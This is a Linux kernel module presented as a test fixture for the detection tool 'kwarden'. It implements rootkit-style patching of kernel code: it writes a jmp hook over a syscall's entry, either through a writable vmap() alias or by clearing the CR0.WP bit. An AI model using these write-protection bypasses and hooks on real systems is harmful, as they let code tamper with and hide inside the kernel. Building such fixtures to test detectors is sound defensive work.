// SPDX-License-Identifier: GPL-2.0
/*
 * kw_rootkit_text - TEST MODULE, loaded only inside kwarden's test VMs.
 *
 * Hooks a core kernel function the way text-patching rootkits do: it writes
 * a 5-byte "jmp hook" over the function's entry (after ENDBR64), bypassing
 * the kernel's text_poke() paths.  Two ways in, as seen in the wild:
 *   mode=alias  write through a fresh writable vmap() alias of the page
 *   mode=cr0    clear CR0.WP with a raw mov (refused when CET is on)
 * The original bytes are put back when the module is removed.
 */
#include <linux/kallsyms.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>

static char *target = "__x64_sys_acct";
module_param(target, charp, 0444);
static char *mode = "alias";
module_param(mode, charp, 0444);

static u8 *kw_site;
static u8 kw_saved[5];

static noinline long kw_hook(void)
{
	return -EPERM;
}

static unsigned long kw_find(const char *name)
{
	struct kprobe kp = { .symbol_name = name };
	unsigned long addr;

	if (register_kprobe(&kp))
		return 0;
	addr = (unsigned long)kp.addr;
	unregister_kprobe(&kp);
	return addr;
}

static int kw_write_alias(u8 *dst, const u8 *src, size_t len)
{
	struct page *page = virt_to_page(__va(__pa_symbol(dst)));
	u8 *map;

	map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!map)
		return -ENOMEM;
	memcpy(map + offset_in_page(dst), src, len);
	vunmap(map);
	return 0;
}

static int kw_write_cr0(u8 *dst, const u8 *src, size_t len)
{
	unsigned long cr0 = read_cr0(), flags;

	if (__read_cr4() & X86_CR4_CET)
		return -EOPNOTSUPP;
	local_irq_save(flags);
	asm volatile("mov %0, %%cr0" : : "r" (cr0 & ~X86_CR0_WP) : "memory");
	memcpy(dst, src, len);
	asm volatile("mov %0, %%cr0" : : "r" (cr0) : "memory");
	local_irq_restore(flags);
	return 0;
}

static int kw_write(u8 *dst, const u8 *src, size_t len)
{
	if (!strcmp(mode, "cr0"))
		return kw_write_cr0(dst, src, len);
	return kw_write_alias(dst, src, len);
}

static int __init kw_rootkit_init(void)
{
	u8 jmp[5] = { 0xe9 };
	s32 rel;
	int err;

	/* kprobes report the address after ENDBR64, i.e. the fentry site */
	kw_site = (u8 *)kw_find(target);
	if (!kw_site)
		return -ENOENT;
	rel = (long)kw_hook - ((long)kw_site + 5);
	memcpy(&jmp[1], &rel, sizeof(rel));
	memcpy(kw_saved, kw_site, sizeof(kw_saved));
	err = kw_write(kw_site, jmp, sizeof(jmp));
	if (err)
		return err;
	pr_info("kw_rootkit_text: hooked %s at %pS via %s\n", target, kw_site,
		mode);
	return 0;
}

static void __exit kw_rootkit_exit(void)
{
	kw_write(kw_site, kw_saved, sizeof(kw_saved));
	pr_info("kw_rootkit_text: unhooked %s\n", target);
}

module_init(kw_rootkit_init);
module_exit(kw_rootkit_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("kwarden test: core text hook written behind text_poke");
